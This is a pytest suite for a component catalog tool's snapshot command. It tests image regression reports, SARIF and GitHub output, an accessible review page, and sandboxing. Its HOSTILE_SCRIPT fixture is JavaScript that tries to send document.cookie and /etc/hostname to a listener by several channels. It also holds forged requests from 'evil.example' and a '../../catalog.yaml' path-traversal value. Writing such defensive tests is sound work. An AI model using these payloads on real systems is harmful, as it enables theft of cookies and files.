"""`catalog-build snapshot` end to end on Tests/Fixtures/snapshot: three components, two of which
(Alpha Switch and Gamma Toggle Button) share the token `accent`; the tests change its dark value
only, and exactly those components' images drawn with the dark tokens must be reported, at the
example's line, in every format, with a review page that passes axe."""

import json
import pathlib
import shutil
import subprocess
import time

import jsonschema
import pytest
from axe_playwright_python.sync_playwright import Axe

from conftest_support import serve

REPOSITORY = pathlib.Path(__file__).resolve().parents[2]
BINARY = REPOSITORY / ".build" / "debug" / "catalog-build"
FIXTURE = REPOSITORY / "Tests" / "Fixtures" / "snapshot"
SARIF_SCHEMA = json.loads((REPOSITORY / "Tests" / "formats" / "sarif-2.1.0-emitted.schema.json").read_text())
TAGS = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]

# What the fixture draws at 390 px: the two looks a reader can get — light, and dark (the system's
# dark setting picks the dark theme, and choosing the dark theme turns the site dark, so
# `schemes: [light, dark]` × `modes: all` is two looks, not four) — and right to left for the
# switch (its kind mirrors).
DARK_TOKENS = ["390-dark"]


def snapshot(catalog, *arguments, env=None):
    run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(catalog.parent / "public"), *arguments],
                         capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1", **(env or {})}, timeout=600)
    assert run.returncode in (0, 1), run.stderr
    return run


@pytest.fixture
def catalog(tmp_path):
    folder = tmp_path / "catalog"
    shutil.copytree(FIXTURE, folder)
    return folder


def approved(catalog):
    return sorted(str(path.relative_to(catalog / "snapshots")) for path in (catalog / "snapshots").rglob("*.png"))


def change_dark_accent(catalog):
    dark = catalog / "tokens" / "dark.tokens.json"
    dark.write_text(dark.read_text().replace('"accent": { "$type": "color", "$value": "#0B57D0" }', '"accent": { "$type": "color", "$value": "#B3261E" }'))


def test_a_dark_token_change_reports_exactly_the_images_that_use_it(catalog):
    first = snapshot(catalog, "--update")
    assert first.returncode == 0, first.stdout + first.stderr
    images = approved(catalog)
    assert len(images) == 12 and "alpha/example-on/390-light-rtl.png" in images and "beta/example-checked/390-dark.png" in images
    # Each image is its example's whole stage: nearly the phone's width, the control and its label.
    header = (catalog / "snapshots" / "alpha" / "example-on" / "390-light.png").read_bytes()[16:24]
    width, height = int.from_bytes(header[:4], "big"), int.from_bytes(header[4:], "big")
    assert 300 <= width <= 390 and 40 <= height <= 200, (width, height)
    # Nothing changed: nothing is drawn again, nothing is reported.
    again = snapshot(catalog, "--format", "json")
    assert again.returncode == 0 and json.loads(again.stdout) == [], again.stdout
    assert "0 drawn, 12 unchanged inputs" in again.stderr

    change_dark_accent(catalog)
    run = snapshot(catalog, "--format", "json")
    assert run.returncode == 1
    findings = json.loads(run.stdout)
    assert {f["rule"] for f in findings} == {"snapshot.changed"}, findings
    expected = set()
    for subject in ["alpha/example-on", "alpha/state-disabled"]:
        for name in DARK_TOKENS:
            expected |= {f"{subject}/{name}.png", f"{subject}/{name}-rtl.png"}
    expected |= {f"gamma/example-bold/{name}.png" for name in DARK_TOKENS}
    reported = {f["message"].split("(")[0] for f in findings}
    assert len(findings) == len(expected) == 5, reported
    # Each at the example's (or the state's) line of its component.yaml.
    lines = {(pathlib.Path(f["file"]).parent.name, f["line"]) for f in findings}
    assert lines == {("alpha", 14), ("alpha", 4), ("gamma", 11)}, lines
    for finding in findings:
        assert "% of its pixels changed" in finding["message"]
    # Only the dark images were drawn again: the light ones' inputs are the light values, and
    # Beta does not use the token at all.
    assert "5 drawn, 7 unchanged inputs (not drawn), 0 unchanged, 5 changed" in run.stderr, run.stderr

    # GitHub annotations and SARIF carry the same findings at the same places.
    github = snapshot(catalog, "--format", "github").stdout
    assert github.count("::error file=") == 5 and "line=14" in github and "5 errors" in github, github[-300:]
    log = json.loads(snapshot(catalog, "--format", "sarif").stdout)
    errors = sorted(jsonschema.Draft7Validator(SARIF_SCHEMA).iter_errors(log), key=str)
    assert not errors, errors[:3]
    results = log["runs"][0]["results"]
    assert len(results) == 5 and {r["ruleId"] for r in results} == {"snapshot.changed"}
    assert {r["locations"][0]["physicalLocation"]["region"]["startLine"] for r in results} == {4, 11, 14}

    # The review page: each changed image approved, new and difference, and a slider.
    page = catalog.parent / "public" / "snapshots" / "index.html"
    html = page.read_text()
    assert html.count('class="review-item"') == 5 and "<script" in html and "<style" not in html and " style=" not in html
    for name in ["approved", "new", "difference"]:
        assert (catalog.parent / "public" / "snapshots" / "images" / name / "gamma" / "example-bold" / "390-dark.png").exists()

    # --update approves the change: the next run is clean.
    assert snapshot(catalog, "--update").returncode == 0
    clean = snapshot(catalog, "--format", "json")
    assert clean.returncode == 0 and json.loads(clean.stdout) == []


def test_the_same_input_draws_the_same_bytes(catalog, tmp_path):
    assert snapshot(catalog, "--update").returncode == 0
    first = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
    # Forget what was drawn from what, so every image is drawn again and compared byte for byte.
    shutil.rmtree(catalog / "snapshots")
    assert snapshot(catalog, "--update").returncode == 0
    second = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
    assert first.keys() == second.keys()
    differing = [name for name in first if first[name] != second[name]]
    assert not differing, differing


def test_the_example_catalogs_approved_images_are_what_snapshot_draws(tmp_path):
    """The example's approved images (in the repository, each drawn alone before the shots of a
    page were drawn as one band and cut) are what snapshot draws now: a stage cut one pixel off,
    or taken before a frame above it answered with its height, is a changed image. Two
    components: one with an example frame and right-to-left states, one with a tall gallery."""
    shutil.copytree(REPOSITORY / "content", tmp_path / "catalog")
    shutil.copytree(REPOSITORY / "examples", tmp_path / "examples")
    # Forget what each image was drawn from, so every one is drawn and compared.
    (tmp_path / "catalog" / "snapshots" / "manifest.json").unlink()
    run = subprocess.run([str(BINARY), "snapshot", "--source", str(tmp_path / "catalog"), "--output", str(tmp_path / "public"),
                          "--only", "switch", "toggle-with-label", "--format", "json"],
                         capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
    findings = json.loads(run.stdout or "[]")
    assert run.returncode == 0 and findings == [], (run.stderr, findings)
    assert "Snapshots: 54 drawn" in run.stderr and "54 unchanged, 0 changed, 0 new" in run.stderr, run.stderr


def test_the_review_page_passes_axe_and_its_slider_is_keyboard_operable(catalog, new_page):
    snapshot(catalog, "--update")
    change_dark_accent(catalog)
    snapshot(catalog)
    # Served as a careful host serves it (the strict Content-Security-Policy of the other tests).
    server = serve(catalog.parent / "public")
    address = f"http://127.0.0.1:{server.server_address[1]}/snapshots/"
    try:
        for scheme in ["light", "dark"]:
            page = new_page(viewport={"width": 1280, "height": 900}, color_scheme=scheme)
            page.goto(address)
            violations = Axe().run(page, options={"runOnly": {"type": "tag", "values": TAGS}, "resultTypes": ["violations"]}).response["violations"]
            assert not violations, [(v["id"], [n["target"] for n in v["nodes"][:3]]) for v in violations]
            slider = page.get_by_role("slider").first
            slider.focus()
            page.keyboard.press("End")
            assert slider.get_attribute("aria-valuetext") == "100% approved, 0% new"
            assert "inset(0px 0px 0px 100%)" in page.locator("[data-review-new]").first.evaluate("e => getComputedStyle(e).clipPath")
            assert all(page.locator("img").nth(i).evaluate("i => i.complete && i.naturalWidth > 0") for i in range(page.locator("img").count()))
            assert not page.errors, page.errors
    finally:
        server.shutdown()


def test_a_removed_example_is_missing_and_update_removes_its_image(catalog):
    snapshot(catalog, "--update")
    component = catalog / "components" / "gamma" / "component.yaml"
    component.write_text(component.read_text().split("demo:")[0])
    run = snapshot(catalog, "--format", "json")
    findings = json.loads(run.stdout)
    missing = [f for f in findings if f["rule"] == "snapshot.missing"]
    assert len(missing) == 2 and all("gamma/example-bold/" in f["message"] for f in missing), findings
    assert missing[0]["severity"] == "warning" and missing[0]["file"].endswith(".png")
    assert snapshot(catalog, "--update").returncode == 0
    assert not any(name.startswith("gamma/") for name in approved(catalog))


def test_a_corrupt_approved_image_is_named_and_nothing_crashes(catalog):
    snapshot(catalog, "--update")
    (catalog / "snapshots" / "beta" / "example-checked" / "390-light.png").write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    manifest = catalog / "snapshots" / "manifest.json"
    manifest.unlink()
    run = snapshot(catalog, "--format", "json")
    assert run.returncode == 1
    findings = [f for f in json.loads(run.stdout) if f["rule"] == "snapshot.unreadable"]
    assert len(findings) == 1 and findings[0]["file"].endswith("beta/example-checked/390-light.png"), run.stdout
    assert "is not a readable PNG" in findings[0]["message"]


def test_an_approved_image_corrupted_or_replaced_is_found_though_its_inputs_did_not_change(catalog):
    """#55 7: the manifest records each approved file's bytes: a corrupt one, and a valid PNG
    put in another's place, are drawn and compared again though nothing they depend on changed."""
    snapshot(catalog, "--update")
    folder = catalog / "snapshots"
    (folder / "beta" / "example-checked" / "390-light.png").write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    shutil.copyfile(folder / "alpha" / "example-on" / "390-light.png", folder / "alpha" / "example-on" / "390-dark.png")
    run = snapshot(catalog, "--format", "json")
    assert run.returncode == 1
    findings = json.loads(run.stdout)
    unreadable = [f for f in findings if f["rule"] == "snapshot.unreadable"]
    changed = [f for f in findings if f["rule"] == "snapshot.changed"]
    assert len(unreadable) == 1 and unreadable[0]["file"].endswith("beta/example-checked/390-light.png"), findings
    assert len(changed) == 1 and "390 px, dark" in changed[0]["message"], findings
    assert "10 unchanged inputs (not drawn)" in run.stderr, run.stderr


def test_one_component_example_or_image_is_approved_alone(catalog, new_page):
    """#55 7: `--update --only` approves exactly what it names; the review page gives each image
    its own approve command with a copy button that copies it."""
    snapshot(catalog, "--update")
    change_dark_accent(catalog)
    before = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
    one = "alpha/example-on@390-dark"
    run = snapshot(catalog, "--update", "--only", one)
    assert run.returncode == 0, run.stdout + run.stderr
    after = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
    assert [name for name in after if after[name] != before[name]] == ["alpha/example-on/390-dark.png"]
    # The rest still differ, and the review page offers each its command.
    run = snapshot(catalog)
    assert run.returncode == 1
    page_text = (catalog.parent / "public" / "snapshots" / "index.html").read_text()
    assert "--update --only alpha/example-on@390-dark-rtl" in page_text
    assert "--only alpha/example-on@390-dark</code>" not in page_text, "the approved one is no longer listed"
    # An example by its title approves all its images; a selector naming nothing is refused.
    assert snapshot(catalog, "--update", "--only", "gamma/Bold").returncode == 0
    assert not any("gamma" in line for line in snapshot(catalog).stdout.splitlines() if "snapshot.changed" in line)
    refused = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(catalog.parent / "public"), "--only", "alpha/nothing"],
                             capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
    assert refused.returncode != 0 and "names no image" in refused.stderr and "example-on" in refused.stderr, refused.stderr
    # The copy button copies the command.
    snapshot(catalog)
    server = serve(catalog.parent / "public")
    try:
        page = new_page(viewport={"width": 390, "height": 900}, permissions=["clipboard-read", "clipboard-write"])
        page.goto(f"http://127.0.0.1:{server.server_address[1]}/snapshots/")
        button = page.locator("[data-review-copy]").first
        box = button.bounding_box()
        assert box["width"] >= 44 and box["height"] >= 44
        button.click()
        page.wait_for_function("() => document.querySelector('[data-review-status]').textContent.startsWith('Copied')")
        copied = page.evaluate("navigator.clipboard.readText()")
        assert copied.startswith("catalog-build snapshot --source ") and "--update --only " in copied, copied
    finally:
        server.shutdown()


def test_no_browser_is_a_clear_error_naming_the_package(catalog):
    run = snapshot(catalog, "--format", "json", env={"CATALOG_BUILD_CHROMIUM": "/nonexistent/chromium"})
    assert run.returncode == 1
    findings = json.loads(run.stdout)
    assert [f["rule"] for f in findings] == ["snapshot.browser"]
    assert "apt-get install chromium" in findings[0]["message"] and "/nonexistent/chromium" in findings[0]["message"]
    assert findings[0]["file"].endswith("catalog.yaml")


def test_a_page_that_does_not_settle_in_time_is_reported_at_the_example(catalog):
    run = snapshot(catalog, "--format", "json", "--only", "gamma", "--timeout", "0.001")
    assert run.returncode == 1
    findings = json.loads(run.stdout)
    assert findings and {f["rule"] for f in findings} == {"snapshot.not-drawn"}, findings
    assert {(pathlib.Path(f["file"]).parent.name, f["line"]) for f in findings} == {("gamma", 11)}


def test_diff_with_snapshots_reports_both_and_links_the_review_page(catalog):
    def git(*arguments):
        subprocess.run(["git", *arguments], cwd=catalog, check=True, capture_output=True,
                       env={"PATH": "/usr/bin:/bin", "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org",
                            "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org", "HOME": str(catalog)})
    assert snapshot(catalog, "--update").returncode == 0
    git("init", "-q", "-b", "main")
    git("add", "-A")
    git("commit", "-q", "-m", "approved")
    change_dark_accent(catalog)
    run = subprocess.run([str(BINARY), "diff", "--source", str(catalog), "--snapshots", "--output", str(catalog.parent / "public"), "--format", "markdown", "--fail-on", "any"],
                         capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}, timeout=600)
    assert run.returncode == 1, run.stderr
    report = run.stdout
    assert "accent" in report and "#0B57D0" in report, report[:800]
    assert "## What it looks like" in report and "5 changed" in report
    page = str(catalog.parent / "public" / "snapshots" / "index.html")
    assert f"]({page})" in report
    assert report.count("snapshot.changed") == 0 and report.count("looks different from its approved image") == 5


def test_a_later_build_may_replace_the_folder_snapshot_made_for_its_review_page(catalog, tmp_path):
    """`snapshot` run first in a fresh clone makes public/ for its review page: a build after
    it must not take that folder for someone else's."""
    output = tmp_path / "public"
    run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(output)], capture_output=True, text=True, timeout=600)
    assert run.returncode == 0 and (output / "snapshots" / "index.html").exists(), run.stderr
    built = subprocess.run([str(BINARY), "build", "--source", str(catalog), "--output", str(output)], capture_output=True, text=True, timeout=600)
    assert built.returncode == 0, built.stderr
    assert (output / "index.html").exists()
    # A folder of someone else's keeps its protection: snapshot adds no marker to it.
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine")
    subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(foreign)], capture_output=True, text=True, timeout=600)
    refused = subprocess.run([str(BINARY), "build", "--source", str(catalog), "--output", str(foreign)], capture_output=True, text=True, timeout=600)
    assert refused.returncode != 0 and "holds other files" in refused.stderr


# #52: a contributor's example is drawn shut in. The team's script below tries every way out it
# has — fetch, an image, a beacon, a WebSocket, a file URL, and a frame's parent — and one
# example spins forever; the listener on this machine's loopback must receive nothing, and the
# innocent examples must still be drawn.
HOSTILE_SCRIPT = """
(function () {
  "use strict";
  var port = %d;
  var leak = "http://127.0.0.1:" + port + "/leak";
  try { fetch(leak + "?fetch=" + encodeURIComponent(document.cookie)).catch(function () {}); } catch (e) {}
  try { new Image().src = leak + "?image"; } catch (e) {}
  try { navigator.sendBeacon(leak + "?beacon", "x"); } catch (e) {}
  try { new WebSocket("ws://127.0.0.1:" + port + "/socket"); } catch (e) {}
  try {
    fetch("file:///etc/hostname").then(function (r) { return r.text(); })
      .then(function (t) { fetch(leak + "?file=" + encodeURIComponent(t)); }).catch(function () {});
  } catch (e) {}
  try { fetch("http://localhost:" + port + "/leak?name").catch(function () {}); } catch (e) {}
  // A navigation is not a fetch: the page's Content-Security-Policy does not stop it, the proxy does.
  if (document.querySelector("[data-navigate]")) { window.location.href = leak + "?navigate"; }
  if (document.querySelector("[data-spin]")) { for (;;) {} }
})();
"""


def hostile_catalog(tmp_path, port):
    for folder in ("catalog", "ui"):
        shutil.copytree(REPOSITORY / "Tests" / "Fixtures" / "web" / folder, tmp_path / folder)
    (tmp_path / "ui" / "ui-card.js").write_text(HOSTILE_SCRIPT % port)
    card = tmp_path / "catalog" / "components" / "card" / "component.yaml"
    card.write_text(card.read_text() + "  - title: Spinning\n    html: '<div class=\"ui-card\" data-spin><p>Spins.</p></div>'\n"
                    + "  - title: Navigating\n    html: '<div class=\"ui-card\" data-navigate><p>Leaves.</p></div>'\n")
    settings = tmp_path / "catalog" / "catalog.yaml"
    settings.write_text(settings.read_text() + "snapshots:\n  widths: [390]\n  schemes: [light]\n")
    return tmp_path / "catalog"


class Listener:
    """A loopback HTTP listener that counts every connection made to it."""

    def __init__(self):
        import socket
        import threading
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(16)
        self.port = self.socket.getsockname()[1]
        self.connections = []
        self.open = True

        def accept():
            while self.open:
                try:
                    client, _ = self.socket.accept()
                except OSError:
                    return
                client.settimeout(1)
                try:
                    self.connections.append(client.recv(4096))
                except OSError:
                    self.connections.append(b"")
                client.close()

        threading.Thread(target=accept, daemon=True).start()

    def close(self):
        self.open = False
        self.socket.close()


def test_an_examples_script_reaches_nothing_and_one_that_spins_stalls_no_other(tmp_path):
    import glob
    before = set(glob.glob("/tmp/catalog-build-snapshot-*") + glob.glob("/tmp/catalog-build-chromium-*"))
    listener = Listener()
    try:
        catalog = hostile_catalog(tmp_path, listener.port)
        run = subprocess.run([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(tmp_path / "public"), "--update",
                              "--format", "json", "--timeout", "8"],
                             capture_output=True, text=True, timeout=600,
                             # One tab: every page after the spinning one is drawn in the tab it hung.
                             env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1", "CATALOG_BUILD_SNAPSHOT_WORKERS": "1"})
        findings = json.loads(run.stdout or "[]")
        not_drawn = [f for f in findings if f["rule"] == "snapshot.not-drawn"]
        # The spinning example is not drawn (nor, perhaps, the one that navigated away to nothing);
        # every other example and state is.
        assert any("Spinning" in f["message"] for f in not_drawn), findings
        assert all("Spinning" in f["message"] or "Navigating" in f["message"] for f in not_drawn), findings
        drawn = sorted(str(p.relative_to(catalog / "snapshots")) for p in (catalog / "snapshots").rglob("*.png"))
        assert any("card/web-example-with-a-long-text" in p or "card/" in p and "long" in p for p in drawn), drawn
        assert any(p.startswith("button/") for p in drawn), drawn
        time.sleep(1)
        assert listener.connections == [], listener.connections
    finally:
        listener.close()
    # Nothing is left behind in the temporary folder.
    import glob
    assert not [path for path in glob.glob("/tmp/catalog-build-snapshot-*") + glob.glob("/tmp/catalog-build-chromium-*") if path not in before]


def test_sigterm_ends_the_browser_and_removes_what_snapshot_made(tmp_path):
    import glob
    import os
    import signal
    listener = Listener()
    try:
        catalog = hostile_catalog(tmp_path, listener.port)
        process = subprocess.Popen([str(BINARY), "snapshot", "--source", str(catalog), "--output", str(tmp_path / "public"), "--timeout", "60"],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"})
        # Wait until the browser runs (its profile folder exists), then interrupt.
        made = lambda: {path for path in glob.glob("/tmp/catalog-build-chromium-*") + glob.glob("/tmp/catalog-build-snapshot-*")
                        if f"-{process.pid}-" in path}
        deadline = time.time() + 60
        while time.time() < deadline and not any("chromium" in path for path in made()):
            time.sleep(0.1)
        assert made(), "the browser never started"
        time.sleep(1)
        process.send_signal(signal.SIGTERM)
        output, errors = process.communicate(timeout=30)
        assert process.returncode == 128 + signal.SIGTERM, output[-3000:] + errors
        assert made() == set()
        # No browser process of that run is left.
        leftovers = subprocess.run(["pgrep", "-f", "catalog-build-chromium"], capture_output=True, text=True).stdout.split()
        assert leftovers == [], leftovers
    finally:
        listener.close()


def start_serve(catalog, review):
    """`catalog-build serve` of the fixture with the review folder; its address once listening."""
    import re
    import threading
    process = subprocess.Popen([str(BINARY), "serve", "--source", str(catalog), "--port", "0", "--review", str(review)],
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"})
    address = None
    lines = []
    deadline = time.time() + 60
    while time.time() < deadline and address is None:
        line = process.stdout.readline()
        if not line:
            break
        lines.append(line)
        found = re.search(r"(http://127\.0\.0\.1:\d+/)", line)
        if found:
            address = found.group(1)
    threading.Thread(target=lambda: [None for _ in process.stdout], daemon=True).start()
    assert address, "".join(lines)
    return process, address


def test_the_review_page_under_serve_approves_one_image_from_itself_only(catalog, new_page):
    """#55 7: opened through `serve`, the review page has an Approve button per image; it
    approves that image alone. A request from another origin, or without the page's token, is
    refused, and so is an image the review does not offer."""
    import urllib.request
    import urllib.error
    snapshot(catalog, "--update")
    change_dark_accent(catalog)
    first = snapshot(catalog, "--format", "json")
    changed_before = [f for f in json.loads(first.stdout) if f["rule"] == "snapshot.changed"]
    assert first.returncode == 1 and len(changed_before) >= 3
    review = catalog.parent / "public" / "snapshots"
    process, address = start_serve(catalog, review)
    try:
        page = new_page(viewport={"width": 1280, "height": 900})
        page.goto(address + "_catalog/review/")
        button = page.locator("[data-review-approve]").first
        button.wait_for(state="visible")
        file = button.get_attribute("data-review-approve")
        box = button.bounding_box()
        assert box["width"] >= 44 and box["height"] >= 44
        before = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
        button.click()
        from playwright.sync_api import expect
        expect(page.locator("[data-review-status]")).to_contain_text("Approved")
        after = {name: (catalog / "snapshots" / name).read_bytes() for name in approved(catalog)}
        assert [name for name in after if after[name] != before[name]] == [file]
        assert after[file] == (review / "images" / "new" / file).read_bytes()
        assert not page.errors, page.errors
        token = page.locator('meta[name="catalog-build-approve"]').get_attribute("content")

        def post(body, origin):
            request = urllib.request.Request(address + "_catalog/review/approve", data=json.dumps(body).encode(), method="POST",
                                             headers={"Content-Type": "application/json", **({"Origin": origin} if origin else {})})
            try:
                with urllib.request.urlopen(request, timeout=10) as response:
                    return response.status
            except urllib.error.HTTPError as error:
                return error.code

        others = [name for name in json.loads((review / "pending.json").read_text()) if name != file]
        assert post({"file": others[0], "token": token}, "http://evil.example") == 403
        assert post({"file": others[0], "token": token}, None) == 403
        assert post({"file": others[0], "token": "guessed"}, address.rstrip("/")) == 403
        assert post({"file": "../../catalog.yaml", "token": token}, address.rstrip("/")) == 409
        assert (catalog / "snapshots" / others[0]).read_bytes() == after[others[0]], "nothing else was approved"
        # The page's own origin and token approve another one.
        assert post({"file": others[0], "token": token}, address.rstrip("/")) == 200
    finally:
        process.terminate()
        process.wait(10)
    # The two approved images now pass; the others still differ.
    findings = json.loads(snapshot(catalog, "--format", "json").stdout)
    assert len([f for f in findings if f["rule"] == "snapshot.changed"]) == len(changed_before) - 2, findings
